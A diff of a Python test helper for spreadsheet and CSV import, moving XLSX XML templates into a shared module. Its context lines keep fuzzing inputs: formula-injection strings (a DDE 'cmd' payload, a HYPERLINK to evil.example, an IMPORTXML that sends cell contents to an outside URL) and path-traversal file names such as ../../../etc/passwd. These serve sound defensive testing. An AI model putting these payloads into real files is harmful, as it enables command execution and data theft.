@@ -12,6 +12,8 @@ from xml.sax.saxutils import escape
 
 from hypothesis import strategies as st
 
+from tests.xlsx_parts import CONTENT_TYPES, MAIN, RELS, WORKBOOK, WORKBOOK_RELS
+
 FORMULAS = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)",
             "=1/0", "\t=1+1", "\r=2+2", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"]
 NAMES = ["../../../etc/passwd", "..\\..\\windows\\system32\\cmd.exe", "/dev/zero", "C:\\con\\aux",
@@ -51,39 +53,15 @@ def csv_bytes(rows: list[list], encoding: str, delimiter: str = ",") -> bytes:
     return "".join(lines).encode(encoding, "replace")
 
 
-_CONTENT_TYPES = (
-    '<?xml version="1.0" encoding="UTF-8"?>'
-    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
-    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
-    '<Default Extension="xml" ContentType="application/xml"/>'
-    '<Override PartName="/xl/workbook.xml" '
-    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
-    '<Override PartName="/xl/worksheets/sheet1.xml" '
-    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
-_RELS = ('<?xml version="1.0" encoding="UTF-8"?>'
-         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-         '<Relationship Id="rId1" Target="xl/workbook.xml" '
-         'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
-         '</Relationships>')
-_WORKBOOK = ('<?xml version="1.0" encoding="UTF-8"?>'
-             '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
-             'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
-             '<sheets><sheet name="{title}" sheetId="1" r:id="rId1"/></sheets></workbook>')
-_WORKBOOK_RELS = ('<?xml version="1.0" encoding="UTF-8"?>'
-                  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-                  '<Relationship Id="rId1" Target="worksheets/sheet1.xml" '
-                  'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>'
-                  '</Relationships>')
-MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 
 
 def xlsx_parts(sheet_xml: bytes | None = None, title: str = "Sheet1", rows: list[list] | None = None,
                dimension: str | None = None) -> dict[str, bytes]:
     if sheet_xml is None:
         sheet_xml = sheet_xml_of(rows or [], dimension)
-    return {"[Content_Types].xml": _CONTENT_TYPES.encode(), "_rels/.rels": _RELS.encode(),
-            "xl/workbook.xml": _WORKBOOK.format(title=escape(title, {'"': "&quot;"})).encode(),
-            "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS.encode(), "xl/worksheets/sheet1.xml": sheet_xml}
+    return {"[Content_Types].xml": CONTENT_TYPES.format(shared="").encode(), "_rels/.rels": RELS.encode(),
+            "xl/workbook.xml": WORKBOOK.format(title=escape(title, {'"': "&quot;"})).encode(),
+            "xl/_rels/workbook.xml.rels": WORKBOOK_RELS.format(shared="").encode(), "xl/worksheets/sheet1.xml": sheet_xml}
 
 
 def sheet_xml_of(rows: list[list], dimension: str | None = None) -> bytes:
